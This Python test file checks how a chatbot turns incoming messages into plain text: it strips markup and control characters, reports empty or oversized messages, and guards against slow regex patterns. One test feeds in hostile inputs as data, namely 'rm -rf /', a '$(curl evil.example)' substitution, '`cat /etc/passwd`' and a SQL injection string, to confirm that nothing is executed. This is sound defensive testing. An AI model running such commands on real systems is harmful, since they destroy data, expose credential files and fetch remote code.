"""Whatever a person sends becomes plain text, or a sentence on why it cannot be read."""

from __future__ import annotations

import time
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.answering.context import points_back
from bot.answering.intent import asked_count, gives_orders, intent_of, named_labels, tells, without_commands
from bot.question import MAX_LENGTH, plain_text, read_question
from bot.smalltalk import smalltalk_reply

HOSTILE = (
    *"*_~`<&[(-.|#\n",
    *("**a", "*a *", "<a ", "<@", "<!--", "<https:", "https://", "&lt;", ":a", "**x** ", "a*b "),
    *("good morning ", "thanks ", "ok ", "so really ", "a lot ", "how much ", "name the a b c ", "the ", "stage 1 "),
    *("ignore ", "reply only ", "quick question: ", "\x1b[", "\x1b]", "\u200b", "1. ", "| a ", "A. "),
)


@pytest.mark.parametrize(
    ("sent", "read"),
    [
        ("who  owns\t it ?", "who owns it ?"),
        ("who\r\nowns it?", "who\nowns it?"),
        ("who\x00owns\x0bit?", "who owns it?"),
        ("wh\u200bo o\u00adwns \u202eit\u202c?\ufeff", "who owns it?"),
        ("who \ud800owns it?", "who owns it?"),
        ("cafe\u0301", "caf\u00e9"),
        ("\x1b[31mwho\x1b[0m owns \x1b]0;title\x07it?\x1bc", "who owns it?"),
    ],
)
def test_invisible_and_control_characters_are_taken_out(sent: str, read: str) -> None:
    """Format characters stand inside words and vanish; control characters stand between words and become spaces."""
    assert plain_text(sent) == read


@pytest.mark.parametrize(
    ("sent", "read"),
    [
        ("<@U123|ann> who *owns* _it_?", "ann who owns it?"),
        ("<@U123> who `owns` ~it~?", "who owns it?"),
        ("see <https://example.com/a?b=c|the plan> in <#C1|pilots>", "see the plan in pilots"),
        ("see <https://example.com> and https://example.com/x", "see and"),
        ("<!here> is 5 &lt; 6 &amp;&amp; 7 &gt; 6 :tada:", "is 5 < 6 && 7 > 6"),
        ("&amp;lt;b&amp;gt;", "&lt;b&gt;"),
        ("<b>who</b> <script>alert(1)</script> owns it?", "who alert(1) owns it?"),
        ("5 * 3 * 2 and snake_case_name stay", "5 * 3 * 2 and snake_case_name stay"),
        ("is it 10:30 or 2:1?", "is it 10:30 or 2:1?"),
    ],
)
def test_markup_is_taken_out_and_its_words_stay(sent: str, read: str) -> None:
    """Slack and HTML markup says nothing about the question; link targets and mentions neither."""
    assert plain_text(sent) == read


@pytest.mark.parametrize(
    "sent", ["", "   ", "\n\n", "?!", "\u200b\u202e", "\x00\x07", "<@U123>", "https://example.com", ":tada:"]
)
def test_a_message_without_a_word_is_told_so(sent: str) -> None:
    """Nothing to answer is a friendly sentence, not an error and not a search."""
    assert read_question(sent)[1]


def test_a_message_that_is_too_long_is_told_so_with_its_size() -> None:
    """A pasted 100 kB document is refused with both figures; one that just fits is read."""
    problem = read_question("why? " * 20_000)[1]
    assert problem
    assert "100,000" in problem
    assert f"{MAX_LENGTH:,}" in problem
    assert read_question("w" * MAX_LENGTH) == ("w" * MAX_LENGTH, None)
    assert read_question("w" * (MAX_LENGTH + 1))[1]


@pytest.mark.parametrize(
    "sent", ["who owns it; rm -rf /", "$(curl evil.example) who pays?", "`cat /etc/passwd`", "'; DROP TABLE x;"]
)
def test_shell_and_sql_are_just_text(sent: str) -> None:
    """Nothing of a message is ever run, so its words are read like all others."""
    text, problem = read_question(sent)
    assert problem is None
    assert text.split()[-1].strip("`") == sent.split()[-1].strip("`")


@pytest.mark.parametrize("part", HOSTILE)
def test_hostile_text_costs_little(part: str) -> None:
    """No pattern that reads a message goes over it again and again: the longest message takes a fraction of a second."""
    text = (part * MAX_LENGTH)[:MAX_LENGTH]
    started = time.perf_counter()
    plain = plain_text(text)
    for value in (text, plain, text[:80], text[:78] + "!q"):
        smalltalk_reply(value)
        for read in (intent_of, tells, gives_orders, without_commands, asked_count, named_labels, points_back):
            read(value)
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize("part", ["*a *", "<@", "<https:", "<!--", "<a ", "**a", "\x1b]", "_"])
def test_the_cost_of_markup_grows_with_its_length_only(part: str) -> None:
    """A pattern that tries again from each place would take sixteen times as long for a text four times as long."""
    text = (part * MAX_LENGTH)[: 4 * MAX_LENGTH]
    started = time.process_time()
    plain_text(text)
    assert time.process_time() - started < 2.5


@settings(max_examples=100)
@given(st.text(st.characters(), max_size=200))
def test_plain_text_is_plain(sent: str) -> None:
    """Nothing invisible is left, no line is empty or padded, and reading it again changes no white space."""
    text = plain_text(sent)
    assert not [char for char in text if char != "\n" and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Cn")]
    assert all(line == " ".join(line.split()) != "" for line in text.split("\n")) or text == ""
    text.encode()
